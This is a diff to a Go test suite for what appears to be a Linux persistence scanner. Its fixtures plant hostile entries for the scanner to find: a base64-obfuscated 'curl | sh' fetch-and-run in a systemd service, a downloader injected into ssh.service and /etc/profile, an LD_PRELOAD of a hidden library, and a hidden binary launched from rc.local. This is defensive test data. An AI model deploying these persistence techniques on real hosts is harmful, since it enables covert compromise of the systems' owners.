@@ -50,9 +50,14 @@ func TestFindLocations(t *testing.T) {
 			e, _ := t.Get("/usr/lib/systemd/system/ssh.service")
 			e.Data = strings.Replace(e.Data, "ExecStartPre=/usr/sbin/sshd -t", "ExecStartPre=/usr/sbin/sshd -t\nExecStartPost=/bin/sh -c '"+dl+"'", 1)
 			return t.With(e)
-		}, want{"/usr/lib/systemd/system/ssh.service", 10, KindSystemd, Critical, ActionDisableUnit}},
+		}, want{"/usr/lib/systemd/system/ssh.service", 10, KindSystemd, Critical, ActionRemoveLine}},
 		{"systemd-global-user-unit", al, entry(hosttest.Entry{Path: "/etc/systemd/user/agent.service", Data: "[Service]\nExecStart=/usr/bin/env LD_PRELOAD=/tmp/.l.so /usr/bin/sleep infinity\n"}), want{"/etc/systemd/user/agent.service", 2, KindSystemd, High, ActionDisableUnit}},
-		{"systemd-timer-unit", al, entry(hosttest.Entry{Path: "/etc/systemd/system/upd.service", Data: "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'echo Y3VybCB4fHNo | base64 -d | bash'\n"}), want{"/etc/systemd/system/upd.service", 3, KindSystemd, Critical, ActionDisableUnit}},
+		{"systemd-timer-unit", al, func(t hosttest.Tree) hosttest.Tree {
+			return t.With(
+				hosttest.Entry{Path: "/etc/systemd/system/upd.timer", Data: "[Timer]\nOnCalendar=hourly\nUnit=helper.service\n[Install]\nWantedBy=timers.target\n", Mtime: at},
+				hosttest.Entry{Path: "/etc/systemd/system/timers.target.wants/upd.timer", Link: "/etc/systemd/system/upd.timer"},
+				hosttest.Entry{Path: "/etc/systemd/system/helper.service", Data: "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'echo Y3VybCB4fHNo | base64 -d | bash'\n", Mtime: at})
+		}, want{"/etc/systemd/system/helper.service", 3, KindSystemd, Critical, ActionDisableUnit}},
 		{"systemd-masked-security", deb, entry(hosttest.Entry{Path: "/etc/systemd/system/auditd.service", Link: "/dev/null"}), want{"/etc/systemd/system/auditd.service", 0, KindSystemd, High, ActionRemoveLink}},
 		{"rc.local-rhel", al, entry(hosttest.Entry{Path: "/etc/rc.d/rc.local", Data: "#!/bin/bash\ntouch /var/lock/subsys/local\nnohup /tmp/.s/s >/dev/null &\n", Mode: 0o755}), want{"/etc/rc.d/rc.local", 3, KindRCLocal, High, ActionRemoveLine}},
 		{"etc-profile", deb, appendTo("/etc/profile", dl+" >/dev/null 2>&1\n"), want{"/etc/profile", lines(deb, "/etc/profile"), KindShellProfile, Critical, ActionRemoveLine}},
